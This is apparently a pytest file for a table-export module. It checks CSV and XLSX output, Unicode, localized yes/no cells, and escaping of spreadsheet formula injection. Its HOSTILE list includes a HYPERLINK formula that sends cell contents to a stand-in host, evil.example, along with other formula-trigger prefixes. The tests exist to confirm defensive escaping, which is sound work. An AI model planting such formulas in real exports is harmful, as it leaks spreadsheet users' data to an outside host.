"""sori.exports: one column per field in field order; nested values become compact JSON cells."""

import csv
import io
import json
import zipfile

from openpyxl import load_workbook
from pydantic import BaseModel

from sori.exports import table, to_csv, to_xlsx


class Row(BaseModel):
    name: str
    by_sex: dict[str, int]
    lgs: list[str]
    share: float | None


ROWS = [Row(name="Kumanovo — Куманово", by_sex={"male": 2, "female": 3}, lgs=["A", "B"], share=None)]


def test_nested_values_become_compact_json_and_the_header_follows_the_fields() -> None:
    header, first = table(ROWS, Row)
    assert header == ["name", "by_sex", "lgs", "share"]
    assert first == ["Kumanovo — Куманово", '{"female":3,"male":2}', '["A","B"]', None]
    assert json.loads(str(first[1])) == {"female": 3, "male": 2}


def test_csv_keeps_every_language_and_an_empty_list_has_its_header() -> None:
    text = to_csv(ROWS, Row).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "Kumanovo — Куманово"
    assert to_csv([], Row).decode("utf-8-sig").strip() == "name,by_sex,lgs,share"


class Person(BaseModel):
    title: str
    attended: bool
    groups: list[str]


HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A3&B3,"Details")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_an_empty_list_is_an_empty_cell_and_a_yes_or_no_is_in_the_persons_language() -> None:
    rows = [Person(title="Kumanovo", attended=True, groups=[]), Person(title="Štip", attended=False, groups=[])]
    lines = list(csv.reader(io.StringIO(to_csv(rows, Person, "mk").decode("utf-8-sig"))))
    assert lines[1:] == [["Kumanovo", "Да", ""], ["Štip", "Не", ""]]  # noqa: RUF001
    assert list(csv.reader(io.StringIO(to_csv(rows, Person).decode("utf-8-sig"))))[1] == ["Kumanovo", "Yes", ""]


def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote() -> None:
    rows = [Person(title=text, attended=True, groups=[text]) for text in HOSTILE]
    lines = list(csv.reader(io.StringIO(to_csv(rows, Person).decode("utf-8-sig"))))
    assert [line[0] for line in lines[1:]] == ["'" + text for text in HOSTILE]
    assert all(not line[2].startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines[1:])


def test_an_xlsx_holds_no_formula_and_every_text_as_text() -> None:
    rows = [Person(title=text, attended=True, groups=[]) for text in HOSTILE]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows, Person, "people"))).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert titles == ["'" + text for text in HOSTILE]  # openpyxl with lxml keeps a CR as written
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [True] * len(HOSTILE)
    with zipfile.ZipFile(io.BytesIO(to_xlsx(rows, Person, "people"))) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
